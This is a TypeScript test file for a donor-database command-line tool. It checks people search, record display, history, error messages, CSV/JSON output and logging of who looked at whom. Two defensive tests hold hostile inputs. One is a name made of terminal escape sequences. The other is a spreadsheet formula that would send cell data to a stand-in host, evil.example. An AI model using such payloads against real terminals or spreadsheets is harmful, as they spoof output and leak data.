// SPDX-FileCopyrightText: 2026 The Community Database contributors
// SPDX-License-Identifier: AGPL-3.0-or-later
import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { openAccount } from "../data/accounts/account.ts";
import { registerPayment } from "../data/payments/register-payment.ts";
import { setConsent } from "../data/people/consent.ts";
import { freshDatabase } from "../test/database.ts";
import { administrator, aNotice, makeAPledge, makePerson } from "../test/make.ts";
import { runCdb } from "./test/run-cdb.ts";

const { database, url } = await freshDatabase();
const cdb = (...args: string[]) => runCdb(args, { DATABASE_URL: url });
const { id, donref } = await database.transaction(administrator, async (work) => {
  const person = await makePerson(work, { name: "Zoë Löffler", email: "zoe@example.org" });
  await openAccount(work, person, "zoe");
  await setConsent(work, person, "newsletter", true, { channel: "/settings" });
  const pledge = await makeAPledge(work, person);
  await registerPayment(work, "stripe", "pi_1", aNotice({ reference: pledge.reference }));
  return { id: person.id, donref: person.donref("EX") };
});

test("people are found by parts of a name, also of several words", async () => {
  const { code, out } = await cdb("people", "find", "zoë", "löff");
  assert.deepEqual(out.split("\n")[1]?.split(/ {2,}/).slice(0, 4), [`${id}`, "Zoë Löffler", "zoe@example.org", "zoe"]);
  assert.equal(code, 0);
});

test("two letters are too few to search by: a sentence and exit code 1", async () => {
  assert.deepEqual(await cdb("people", "find", "zo"), { code: 1, out: "", err: "Type at least 3 letters.\n" });
});

test("a person is shown with account, consents, pledges and donations, whatever they are named by", async () => {
  for (const who of [`${id}`, donref, "zoe", "ZOE@example.org"]) {
    const { code, out } = await cdb("people", "show", who, "--json");
    const shown = JSON.parse(out);
    assert.deepEqual([code, shown.id, shown.donref, shown.account.username], [0, id, donref, "zoe"], who);
    assert.deepEqual(shown.donations[0].amount, { amount: 2500, currency: "EUR" });
    assert.match(shown.donations[0].receivedOn, /^\d{4}-\d\d-\d\d$/);
    assert.equal(shown.pledges[0].state, "fulfilled");
    assert.equal(shown.consents.find((it: { purpose: string }) => it.purpose === "newsletter").granted, true);
  }
  const { out } = await cdb("people", "show", "zoe");
  for (const part of ["zoe (open)", "newsletter  yes", "€25.00", `${donref}P1`]) assert.ok(out.includes(part), part);
});

test("the history of a person says who did what", async () => {
  const { code, out } = await cdb("people", "history", "zoe", "--json");
  const { entries } = JSON.parse(out);
  assert.ok(
    entries.some((it: { verb: string; actor: string }) => it.verb === "granted" && it.actor === "administrator:test"),
  );
  assert.equal(code, 0);
  assert.match((await cdb("people", "history", "zoe")).out, /administrator:test +consent \d+ +granted/);
});

test("an unknown person is a sentence and exit code 1, in JSON where asked", async () => {
  const { code, out, err } = await cdb("people", "show", "nobody@example.org");
  assert.match(err, /^There is nobody with this .*`cdb people find`\.\n$/);
  assert.deepEqual([code, out], [1, ""]);
  const asked = await cdb("people", "show", "987654321", "--json");
  assert.equal(JSON.parse(asked.err).error.code, "person-unknown");
  assert.equal(asked.code, 1);
});

test("a hostile name steers no terminal", async () => {
  const name = "\u001b[2J\u009b31m\u202eevil\u0007\nroot";
  await database.transaction(administrator, (work) => makePerson(work, { name, email: "evil@example.org" }));
  for (const args of [
    ["people", "find", "evil"],
    ["people", "show", "evil@example.org"],
  ]) {
    const { out } = await cdb(...args);
    assert.match(out, /<001b>\[2J<009b>31m<202e>evil<0007><000a>root/);
    assert.doesNotMatch(out, /(?!\n)[\p{Cc}\u202e]/u);
    const { out: json } = await cdb(...args, "--json");
    assert.doesNotMatch(json, /(?!\n)[\p{Cc}\u202e]/u);
    const [found] = JSON.parse(json).people ?? [JSON.parse(json)];
    assert.equal(found.name, name);
  }
});

test("lists come as CSV for spreadsheets, in which nothing is calculated", async () => {
  const name = '=HYPERLINK("http://evil.example/?"&A1)';
  await database.transaction(administrator, (work) => makePerson(work, { name, email: "formula@example.org" }));
  const { code, out } = await cdb("people", "find", "formula@", "--csv");
  const [header, row] = parse(out) as string[][];
  assert.deepEqual(header?.slice(0, 5), ["id", "name", "email", "language", "kind"]);
  assert.deepEqual(row?.slice(1, 4), [`'${name}`, "formula@example.org", "en"]);
  assert.equal(code, 0);
  for (const args of [
    ["people", "history", "zoe"],
    ["people", "select", 'registration == "confirmed"'],
    ["consents", "show", "zoe"],
    ["consents", "proof", "zoe"],
    ["payments", "list"],
    ["mail", "queue"],
  ]) {
    const listed = await cdb(...args, "--csv");
    assert.equal(listed.err, "", args.join(" "));
    const [columns, ...rows] = parse(listed.out) as string[][];
    assert.ok(columns && columns.length > 3, args.join(" "));
    if (args[0] === "payments") assert.deepEqual(rows[0]?.slice(2, 5), ["25.00", "EUR", "received"]);
  }
});

test("JSON and CSV at once, or CSV of what is no list, is exit code 2 and nothing is done", async () => {
  assert.equal((await cdb("people", "find", "zoe", "--csv", "--json")).code, 2);
  const { code, err } = await cdb("people", "block", "zoe", "--csv");
  assert.match(err, /unknown option '--csv'/);
  assert.equal(code, 2);
  assert.equal(JSON.parse((await cdb("people", "show", "zoe", "--json")).out).registration, "confirmed");
});

test("whoever is found, picked or explained can see that somebody looked at them", async () => {
  const looks = async () =>
    (await database.pool.query("select 1 from history where person_id = $1 and verb = 'looked-at'", [id])).rowCount ??
    0;
  for (const command of [
    ["people", "find", "löffler"],
    ["people", "select", 'name = "Zoë*"'],
    ["people", "explain", "zoe", 'country == "DE"'],
    ["consents", "proof", "zoe"],
  ]) {
    const before = await looks();
    assert.equal((await cdb(...command)).code, 0, command.join(" "));
    assert.equal(await looks(), before + 1, command.join(" "));
  }
  const before = await looks();
  await cdb("people", "select", "--count", 'name = "Zoë*"');
  assert.equal(await looks(), before, "a count shows nobody");
});
